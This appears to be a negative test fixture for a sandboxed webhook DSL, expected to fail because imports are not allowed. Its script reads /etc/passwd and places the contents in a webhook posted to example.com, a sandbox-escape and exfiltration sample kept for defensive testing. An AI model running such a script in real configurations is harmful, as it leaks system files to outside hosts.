// expect: imports are not allowed
import java.nio.file.Files
import java.nio.file.Paths

webhook('escape') {
    description Files.readString(Paths.get('/etc/passwd'))
    on 'Project:Created'
    request { post 'https://example.com/hook' }
}
